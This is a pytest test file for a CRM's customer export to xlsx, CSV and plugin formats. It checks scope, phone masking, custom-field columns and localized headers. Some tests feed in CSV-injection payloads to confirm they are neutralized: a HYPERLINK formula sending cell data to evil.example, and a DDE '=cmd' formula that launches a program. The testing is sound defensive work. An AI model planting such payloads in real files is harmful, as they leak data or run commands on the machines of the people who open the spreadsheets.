"""What an export holds: the list's customers (its filter, the user's scope), phones as the user may see
them, custom fields as columns, headers in the user's language, no cell a spreadsheet would run."""
import io
from datetime import date

import openpyxl
import pytest

from kehu.accounts.service import create_role
from kehu.custom_fields.service import save_admin_schema
from kehu.extensions import db
from kehu.exports.formats import ExportFormat
from kehu.plugins.hookspecs import hookimpl

HEADERS_ZH = ["编号", "名称", "类型", "公司", "电话", "邮箱", "地区", "地址", "行业", "规模", "状态", "来源", "负责人",
              "团队", "生日", "标签", "联系人", "短信同意", "邮件同意", "电话营销同意", "创建时间", "更新时间"]
HEADERS_EN = ["ID", "Name", "Type", "Company", "Phone", "Email", "Region", "Address", "Industry", "Size", "Status",
              "Source", "Owner", "Team", "Birthday", "Tags", "Contacts", "SMS consent", "Email consent",
              "Phone marketing consent", "Created", "Updated"]
FISHERY = {
    "type": "object", "additionalProperties": False,
    "properties": {
        "pond_mu": {"type": "number", "title": "池塘面积（亩）", "x-title-en": "Pond area (mu)", "minimum": 0},
        "species": {"type": "array", "title": "养殖品种", "items": {"type": "string", "enum": ["carp", "crab"],
                                                                  "enumNames": ["鲤鱼", "大闸蟹"]}},
        "organic": {"type": "boolean", "title": "有机认证"},
        "remark": {"type": "string", "title": "备注"},
    },
}


@pytest.fixture
def exporter_role(app):
    """A role that may export but not see phone numbers in full (as marketing, with exports)."""
    return create_role("exporter", "导出员", ["customer.read", "customer.export"], "all")


def test_an_export_is_the_filtered_list_with_chinese_headers(admin, make_customer, make_tag, make_contact, export,
                                                            api_client_as, column):
    make_tag("重点关注"), make_tag("老客户")
    wanted = make_customer(owner=admin, name="任城鸿达机械", company="鸿达集团", region_code="370811", status="intent",
                           industry="manufacturing", scale="medium", source="expo", tags=["重点关注", "老客户"],
                           email="hd@example.cn", birthday=date(1975, 3, 8), consent_sms=True)
    make_contact(wanted, name="王伟", title="采购经理", phone="13853701234")
    make_customer(owner=admin, name="历下商贸", region_code="370102", status="intent")
    make_customer(owner=admin, name="金乡蒜业", region_code="370828", status="lead")
    job, rows = export(admin, {"region": "3708", "status": ["intent"]})
    assert rows[0] == HEADERS_ZH
    assert job["row_count"] == 1 and job["rows_total"] == 1 and len(rows) == 2
    cells = dict(zip(rows[0], rows[1]))
    assert cells["编号"] == wanted.id and cells["名称"] == "任城鸿达机械" and cells["公司"] == "鸿达集团"
    assert (cells["类型"], cells["状态"], cells["规模"], cells["来源"], cells["行业"]) == \
        ("企业", "意向客户", "中型", "展会", "制造业")
    assert cells["地区"] == "山东省济宁市任城区" and cells["电话"] == "139 0537 0001"
    assert sorted(cells["标签"].split("|")) == ["老客户", "重点关注"] and cells["联系人"] == "王伟 采购经理 138 5370 1234"
    assert (cells["短信同意"], cells["邮件同意"], cells["负责人"], cells["生日"]) == ("是", "否", "admin", "1975-03-08")
    assert cells["创建时间"][:2] == "20" and len(cells["创建时间"]) == 16  # China time, to the minute
    listed = api_client_as(admin).get("/api/v1/customers?region=3708&status=intent").json
    assert [c["id"] for c in listed] == column(rows, "编号")


def test_the_sort_of_the_list_is_the_order_of_the_file(admin, make_customer, export, column):
    for name in ("张庄", "艾山", "马集"):
        make_customer(owner=admin, name=name)
    _job, rows = export(admin, {"sort": "name"})
    assert column(rows, "名称") == ["艾山", "马集", "张庄"]  # by pinyin, as the list sorts


def test_an_export_holds_only_the_customers_in_the_users_scope(app, make_user, make_customer, export, column):
    create_role("sales_exporter", "可导出的销售", ["customer.read", "customer.export"], "own")
    seller, colleague = make_user("sales_exporter", team="济宁"), make_user("sales", team="济宁")
    manager, other = make_user("manager", team="济宁"), make_user("sales", team="聊城")
    own = make_customer(owner=seller, name="自己的客户")
    team = make_customer(owner=colleague, name="同组的客户")
    make_customer(owner=other, name="聊城的客户")
    assert column(export(seller)[1], "名称") == [own.name]
    assert sorted(column(export(manager)[1], "名称")) == sorted([own.name, team.name])


def test_phones_are_masked_without_customer_pii(admin, exporter_role, make_user, make_customer, make_contact, export,
                                                column):
    customer = make_customer(owner=admin, phone="13853701234")
    make_contact(customer, name="李静", phone="0537-7212345")
    masked = export(make_user("exporter"))[1]
    assert column(masked, "电话") == ["138****1234"] and column(masked, "联系人") == ["李静 0537-***2345"]
    full = export(admin)[1]
    assert column(full, "电话") == ["138 5370 1234"] and column(full, "联系人") == ["李静 0537-721 2345"]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("format", ["xlsx", "csv"])
def test_a_cell_starting_like_a_formula_is_neutralized(admin, make_customer, export, column, first, format):
    save_admin_schema("fishery", "渔业", FISHERY, admin)
    payload = f'{first}HYPERLINK("http://evil.example/?x="&A1,"点我")'
    make_customer(owner=admin, name="正常的名字", industry="fishery", extra={"remark": payload},
                  address=f"{first}1+1" if first not in "\t\r" else "济宁市任城区")  # trimmed: no tab, no CR
    rows = export(admin, format=format)[1]
    assert column(rows, "备注") == ["'" + payload]
    if first not in "\t\r":
        assert column(rows, "地址") == [f"'{first}1+1"]
    assert column(rows, "名称") == ["正常的名字"]  # what needs nothing gets nothing


def test_text_is_written_as_text_numbers_as_numbers(admin, make_customer, export, api_client_as):
    save_admin_schema("fishery", "渔业", FISHERY, admin)
    make_customer(owner=admin, name="=SUM(1,2)", industry="fishery", extra={"pond_mu": 35.5})
    job, rows = export(admin)
    sheet = openpyxl.load_workbook(io.BytesIO(api_client_as(admin).get(job["download_url"]).data)).worksheets[0]
    name, area = sheet.cell(2, 2), sheet.cell(2, rows[0].index("池塘面积（亩）") + 1)
    assert (name.data_type, name.value) == ("s", "'=SUM(1,2)")  # a string, never a formula
    assert (area.data_type, area.value) == ("n", 35.5)
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref


def test_custom_fields_are_columns_titled_as_the_form_titles_them(admin, make_customer, export, column):
    save_admin_schema("fishery", "渔业", FISHERY, admin)
    make_customer(owner=admin, name="微山湖水产", industry="fishery",
                  extra={"pond_mu": 120, "species": ["carp", "crab"], "organic": True, "remark": "老客户"})
    make_customer(owner=admin, name="没有字段的客户")
    _job, rows = export(admin, {"sort": "created_at"})
    assert rows[0][len(HEADERS_ZH):] == ["池塘面积（亩）", "养殖品种", "有机认证", "备注"]
    assert column(rows, "池塘面积（亩）") == [120, None]
    assert column(rows, "养殖品种") == ["鲤鱼|大闸蟹", None]
    assert column(rows, "有机认证") == ["是", None] and column(rows, "行业") == ["渔业", None]


def test_headers_and_labels_are_in_the_users_language(admin, make_customer, export):
    """Needs the English of the new msgids (EXPORT_TRANSLATIONS.py) merged into the catalogue."""
    save_admin_schema("fishery", "渔业", FISHERY, admin)
    make_customer(owner=admin, name="Weishan Fishery", status="customer", industry="fishery", extra={"organic": False})
    admin.locale = "en"
    db.session.commit()
    job, rows = export(admin)
    assert rows[0] == HEADERS_EN + ["Pond area (mu)", "养殖品种", "有机认证", "备注"]  # titles without x-title-en as written
    cells = dict(zip(rows[0], rows[1]))
    assert (cells["Status"], cells["Type"], cells["有机认证"]) == ("Customer", "Company", "No")
    assert job["file_name"].startswith("Customers-") and job["file_name"].endswith(".xlsx")


def test_csv_is_utf8_with_a_byte_order_mark(admin, make_customer, export, api_client_as):
    make_customer(owner=admin, name="曲阜孔府食府, 分店", phone=None)
    job, rows = export(admin, format="csv")
    assert rows[0] == HEADERS_ZH and rows[1][1] == "曲阜孔府食府, 分店"  # quoted, the comma kept
    download = api_client_as(admin).get(job["download_url"])
    assert download.mimetype == "text/csv" and download.data.startswith("\ufeff编号".encode())
    assert b"\r\n" in download.data and "attachment" in download.headers["Content-Disposition"]


class GbkCsvPlugin:
    """A plugin-like implementation of export_formats, registered for one test."""

    received = []

    @hookimpl
    def export_formats(self):
        def write(titles, rows, stream):
            stream.write("\t".join(titles).encode("gbk"))
            for row in rows:
                self.received.append(row)
                stream.write(("\n" + "\t".join("" if v is None else str(v) for v in row)).encode("gbk"))

        return [ExportFormat("gbk_tsv", "制表符分隔（GBK）", "tsv", "text/tab-separated-values", write),
                ExportFormat("xlsx", "冒名的 xlsx", "xlsx", "text/plain", write)]


@pytest.fixture
def gbk_plugin(app):
    hooks = app.extensions["kehu_plugins"].hooks
    hooks.register(GbkCsvPlugin(), name="gbk_tsv")
    GbkCsvPlugin.received.clear()
    yield GbkCsvPlugin
    hooks.unregister(name="gbk_tsv")


def test_a_plugin_adds_a_format_through_the_hook(admin, make_customer, export, api_client_as, gbk_plugin):
    make_customer(owner=admin, name="=cmd|' /C calc'!A0", company="济宁鸿达")
    formats = api_client_as(admin).get("/api/v1/exports/formats").json
    assert [f["name"] for f in formats] == ["xlsx", "csv", "gbk_tsv"]  # core's xlsx is not replaced
    assert formats[0]["mimetype"].endswith("spreadsheetml.sheet") and formats[2]["extension"] == "tsv"
    job, content = export(admin, format="gbk_tsv")
    assert job["file_name"].endswith(".tsv")
    lines = content.decode("gbk").split("\n")
    assert lines[0].split("\t")[:2] == ["编号", "名称"]
    assert lines[1].split("\t")[1:4] == ["'=cmd|' /C calc'!A0", "企业", "济宁鸿达"]  # neutralized for the plugin too
    assert api_client_as(admin).get(job["download_url"]).mimetype == "text/tab-separated-values"
